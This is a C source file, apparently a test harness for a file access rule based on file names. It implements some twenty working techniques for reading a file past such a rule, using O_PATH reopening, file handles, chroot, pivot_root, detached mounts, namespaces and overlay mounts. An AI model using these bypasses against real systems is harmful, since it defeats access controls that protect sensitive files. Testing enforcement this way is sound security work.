/* SPDX-License-Identifier: Apache-2.0
 *
 * Ways past a rule about a file's name that take more than one call. Each prints what it could read of the file.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "attack.h"

#define MAX_NAME 4096
#define STACK (64 * 1024)

/* Beside <linux/mount.h> there is no place for <sys/mount.h>. */
static int mount(const char* source, const char* target, const char* type, unsigned long flags, const void* data) {
  return (int)syscall(SYS_mount, source, target, type, flags, data);
}

static int print_fd(int fd) {
  char text[256];
  ssize_t n;

  if (fd < 0) return -errno;
  n = read(fd, text, sizeof(text));
  close(fd);
  if (n < 0) return -errno;
  fwrite(text, 1, (size_t)n, stdout);
  return 0;
}

static int print_at(int dir, const char* name) { return print_fd(openat(dir, name, O_RDONLY)); }

static int reopen(int fd) {
  char path[64];

  if (fd < 0) return -errno;
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  return print_at(AT_FDCWD, path);
}

static int run_read(int argc, char** argv) {
  (void)argc;
  return print_at(AT_FDCWD, argv[0]);
}

/* O_PATH is no open that a rule is about. */
static int run_reopen(int argc, char** argv) {
  (void)argc;
  return reopen(open(argv[0], O_PATH));
}

static int run_unlinked(int argc, char** argv) {
  int fd = open(argv[0], O_PATH);

  (void)argc;
  if (fd < 0 || unlink(argv[0])) return -errno;
  return reopen(fd);
}

static int run_replaced(int argc, char** argv) {
  int fd = open(argv[0], O_PATH);

  (void)argc;
  if (fd < 0 || rename(argv[1], argv[0])) return -errno;
  return reopen(fd);
}

static int run_handle(int argc, char** argv) {
  union {
    struct file_handle handle;
    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } u = {.handle.handle_bytes = MAX_HANDLE_SZ};
  int mount_id, folder;

  (void)argc;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[0], &u.handle, &mount_id, 0)) return -errno;
  folder = open(argv[1], O_RDONLY | O_DIRECTORY);
  if (folder < 0) return -errno;
  return print_fd((int)syscall(SYS_open_by_handle_at, folder, &u.handle, O_RDONLY));
}

/* The folder becomes the root: its file has a short name there. */
static int run_chroot(int argc, char** argv) {
  (void)argc;
  if (chroot(argv[0]) || chdir("/")) return -errno;
  return print_at(AT_FDCWD, argv[1]);
}

/* The root is elsewhere: the folder is beyond it. */
static int run_beyond_root(int argc, char** argv) {
  int folder = open(argv[0], O_PATH | O_DIRECTORY);

  (void)argc;
  if (folder < 0 || chroot(argv[2])) return -errno;
  return print_at(folder, argv[1]);
}

static int run_link_fd(int argc, char** argv) {
  char path[64];
  int fd = open(argv[0], O_PATH);

  (void)argc;
  if (fd < 0) return -errno;
  snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
  if (linkat(AT_FDCWD, path, AT_FDCWD, argv[1], AT_SYMLINK_FOLLOW)) return -errno;
  return print_at(AT_FDCWD, argv[1]);
}

/* A tree that is mounted nowhere. */
static int run_detached(int argc, char** argv) {
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, argv[0], OPEN_TREE_CLONE);

  (void)argc;
  if (tree < 0) return -errno;
  return print_at(tree, argv[1]);
}

static int run_detached_fd(int argc, char** argv) {
  int folder = open(argv[0], O_PATH), tree;

  (void)argc;
  if (folder < 0) return -errno;
  tree = (int)syscall(SYS_open_tree, folder, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
  if (tree < 0) return -errno;
  return print_at(tree, argv[1]);
}

/* FOLDER is a mount: taken away while we are in it. */
static int run_unmounted(int argc, char** argv) {
  (void)argc;
  if (chdir(argv[0]) || syscall(SYS_umount2, argv[0], 2 /* MNT_DETACH */)) return -errno;
  return print_at(AT_FDCWD, argv[1]);
}

struct opening {
  const char* folder;
  int fd;
};

static int open_in_own_namespace(void* argument) {
  struct opening* opening = argument;

  if (unshare(CLONE_NEWNS)) return 1;
  opening->fd = open(opening->folder, O_PATH | O_DIRECTORY);
  return opening->fd < 0;
}

/* A descriptor of a mount whose namespace has ended. */
static int run_dead_namespace(int argc, char** argv) {
  struct opening opening = {argv[0], -1};
  char* stack = malloc(STACK);
  int child = clone(open_in_own_namespace, stack + STACK, CLONE_FILES | CLONE_VM | SIGCHLD, &opening), status;

  (void)argc;
  if (child < 0 || waitpid(child, &status, 0) < 0) return -errno;
  if (opening.fd < 0) return -EBADF;
  usleep(300000); /* it goes a moment later */
  return print_at(opening.fd, argv[1]);
}

/* As root of namespaces of one's own. */
static int run_user_namespace(int argc, char** argv) {
  (void)argc;
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) return -errno;
  if (mount(argv[0], argv[1], NULL, MS_BIND | MS_REC, NULL)) return -errno;
  return chdir(argv[1]) ? -errno : print_at(AT_FDCWD, argv[2]);
}

/* The former root lies at ROOT/old, and PATH with it. */
static int pivot(const char* root) {
  char old[MAX_NAME];

  snprintf(old, sizeof(old), "%s/old", root);
  if (unshare(CLONE_NEWNS) || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) ||
      mount("none", root, "tmpfs", 0, NULL) || mkdir(old, 0700) || syscall(SYS_pivot_root, root, old) || chdir("/"))
    return -errno;
  return 0;
}

static int run_pivoted(int argc, char** argv) {
  char path[MAX_NAME];
  int error = pivot(argv[1]);

  (void)argc;
  if (error) return error;
  snprintf(path, sizeof(path), "/old%s", argv[0]);
  return print_at(AT_FDCWD, path);
}

/* The same, seen from outside through /proc/PID/root. */
static int run_pivoted_child(int argc, char** argv) {
  char path[MAX_NAME];
  int ready[2], error = 0, child;

  (void)argc;
  if (pipe(ready)) return -errno;
  child = fork();
  if (!child) {
    error = pivot(argv[1]);
    if (write(ready[1], &error, sizeof(error)) != sizeof(error)) _exit(1);
    pause();
    _exit(0);
  }
  if (read(ready[0], &error, sizeof(error)) != sizeof(error)) error = -EIO;
  snprintf(path, sizeof(path), "/proc/%d/root/old%s", child, argv[0]);
  if (!error) error = print_at(AT_FDCWD, path);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
  return error;
}

/* FOLDER/NAME moved below more folders than a path can name. */
static int run_deep(int argc, char** argv) {
  char part[251];
  int folder;

  (void)argc;
  memset(part, 'd', sizeof(part) - 1);
  part[sizeof(part) - 1] = 0;
  if (chdir(argv[0])) return -errno;
  folder = open(".", O_PATH | O_DIRECTORY);
  for (int i = 0; i < 18; i++)
    if (mkdir(part, 0700) || chdir(part)) return -errno;
  if (renameat(folder, argv[1], AT_FDCWD, argv[1])) return -errno;
  return print_at(AT_FDCWD, argv[1]);
}

static int create_and_print(int fs, const char* mounted, const char* name) {
  int tree;

  if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0)) return -errno;
  tree = (int)syscall(SYS_fsmount, fs, 0, 0);
  if (tree < 0) return -errno;
  if (*mounted && syscall(SYS_move_mount, tree, "", AT_FDCWD, mounted, MOVE_MOUNT_F_EMPTY_PATH)) return -errno;
  return print_at(tree, name);
}

/* An overlay of FOLDER by the new mount API; MOUNTED may be empty. */
static int run_overlay(int argc, char** argv) {
  int fs = (int)syscall(SYS_fsopen, "overlay", 0);
  char layers[MAX_NAME];

  (void)argc;
  snprintf(layers, sizeof(layers), "%s:%s", argv[0], argv[1]);
  if (fs < 0 || syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "lowerdir", layers, 0)) return -errno;
  return create_and_print(fs, argv[3], argv[2]);
}

/* The same with the layers given as descriptors (6.13 and newer; EINVAL before). */
static int run_overlay_fd(int argc, char** argv) {
  int fs = (int)syscall(SYS_fsopen, "overlay", 0);

  (void)argc;
  for (int i = 0; i < 2; i++) {
    int layer = open(argv[i], O_PATH | O_DIRECTORY);
    if (syscall(SYS_fsconfig, fs, 5 /* FSCONFIG_SET_FD */, "lowerdir+", NULL, layer)) return -errno;
  }
  return create_and_print(fs, argv[3], argv[2]);
}

/* A file system of its own, mounted nowhere. */
static int run_fsmount(int argc, char** argv) {
  int fs = (int)syscall(SYS_fsopen, argv[0], 0);

  (void)argc;
  return fs < 0 ? -errno : create_and_print(fs, "", argv[1]);
}

/* Folders below FOLDER, each bound to PLACE and unbound, until one is refused. Says how many there were room for. */
static int run_fill(int argc, char** argv) {
  int most = atoi(argv[2]), count = 0;
  char path[MAX_NAME];

  (void)argc;
  for (; count < most; count++) {
    snprintf(path, sizeof(path), "%s/%d", argv[0], count);
    if (mkdir(path, 0700)) return -errno;
    if (mount(path, argv[1], NULL, MS_BIND, NULL)) break;
    if (syscall(SYS_umount2, argv[1], 0)) return -errno;
  }
  printf("%d\n", count);
  return count < most ? -errno : 0;
}

const struct attack trick_attacks[] = {
    {"trick-read", "PATH", run_read, "the plain way"},
    {"trick-reopen", "PATH", run_reopen, "O_PATH, then /proc/self/fd"},
    {"trick-unlinked", "PATH", run_unlinked, "the same, its name removed between"},
    {"trick-replaced", "PATH OTHER", run_replaced, "the same, OTHER renamed over it between"},
    {"trick-handle", "PATH FOLDER", run_handle, "open_by_handle_at(2)"},
    {"trick-chroot", "FOLDER PATH", run_chroot, "chroot(2) into FOLDER"},
    {"trick-beyond-root", "FOLDER NAME ROOT", run_beyond_root, "a descriptor of FOLDER, chroot(2) to ROOT"},
    {"trick-link-fd", "PATH NAME", run_link_fd, "linkat(2) of a descriptor"},
    {"trick-detached", "FOLDER NAME", run_detached, "open_tree(2) of FOLDER, mounted nowhere"},
    {"trick-detached-fd", "FOLDER NAME", run_detached_fd, "the same of a descriptor"},
    {"trick-unmounted", "FOLDER NAME", run_unmounted, "in the mount FOLDER, umount2(2) with MNT_DETACH"},
    {"trick-dead-namespace", "FOLDER NAME", run_dead_namespace, "FOLDER in a mount namespace that has ended"},
    {"trick-userns", "FOLDER TARGET NAME", run_user_namespace, "bind in a user namespace"},
    {"trick-pivot", "PATH ROOT", run_pivoted, "pivot_root(2)"},
    {"trick-pivot-child", "PATH ROOT", run_pivoted_child, "the same of a child, by /proc/PID/root"},
    {"trick-deep", "FOLDER NAME", run_deep, "moved deeper than a path can name"},
    {"trick-overlay", "FOLDER OTHER NAME MOUNTED", run_overlay, "overlay of FOLDER, by the new mount API"},
    {"trick-fill", "FOLDER PLACE MOST", run_fill, "bind folders below FOLDER to PLACE until one is refused"},
    {"trick-fsmount", "TYPE NAME", run_fsmount, "a file of a new file system that is mounted nowhere"},
    {"trick-overlay-fd", "FOLDER OTHER NAME MOUNTED", run_overlay_fd, "the same by descriptors"},
    {0},
};
